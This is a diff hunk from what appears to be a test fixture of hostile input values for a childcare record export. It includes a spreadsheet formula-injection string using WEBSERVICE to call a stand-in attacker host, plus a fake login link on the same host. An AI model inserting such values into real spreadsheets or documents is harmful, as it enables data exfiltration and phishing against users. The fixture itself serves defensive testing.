@@ -41,7 +41,7 @@ SETTING = "+Acorn Nursery"
 PRACTITIONER = "-2+3 Ann Lee"
 KEY_PERSON = "\tKim Alpha"
 ADDRESS = "=1+1 High Street"
-REASON = "=WEBSERVICE(\"https://evil.example\")"
+REASON = '=WEBSERVICE("https://evil.example")'
 LINK = "https://evil.example/login"
 HOSTILE = (CHILD, OTHER_CHILD, SETTING, PRACTITIONER, KEY_PERSON, ADDRESS, REASON, LINK)
 
